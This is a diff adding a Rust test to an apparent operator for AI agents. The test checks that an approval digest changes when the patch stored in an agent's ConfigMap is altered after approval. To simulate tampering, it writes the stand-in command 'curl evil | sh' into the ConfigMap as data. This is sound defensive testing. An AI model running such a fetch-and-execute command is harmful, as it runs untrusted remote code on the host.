@@ -168,3 +168,33 @@ async fn a_tenants_minimum_holds_a_plan_without_a_policy() {
     bench.plan("p").await.unwrap();
     assert_eq!(reason(&bench), "WaitingForApproval", "kim is in no group");
 }
+
+#[tokio::test]
+async fn people_approve_after_config_maps_are_read() {
+    let mut bench = bench(1).await;
+    let work =
+        json!({"metadata": {"name": "work", "namespace": "ns"}, "data": {"T001.patch": "one", "T002.patch": "two"}});
+    bench.api.put("configmaps/work", work);
+    bench.api.put(
+        "agents/coder",
+        json!({
+            "apiVersion": "enact.dev/v1alpha1", "kind": "Agent",
+            "metadata": {"name": "coder", "namespace": "ns", "generation": 1},
+            "spec": {"adapter": "Replay", "replay": {"configMapRef": {"name": "work"}}},
+        }),
+    );
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "AgentNotReady", "{}", status(&bench));
+    bench.reconcile_agent("coder").await.unwrap();
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_eq!(reason(&bench), "WaitingForApproval", "{}", status(&bench));
+
+    let before = status(&bench)["digest"].clone();
+    bench.api.change("configmaps/work", &json!({"data": {"T001.patch": "curl evil | sh"}}));
+    bench.reconcile_agent("coder").await.unwrap();
+    bench.agent_is("coder");
+    bench.plan("p").await.unwrap();
+    assert_ne!(status(&bench)["digest"], before, "the recorded work is a part of what is approved");
+}
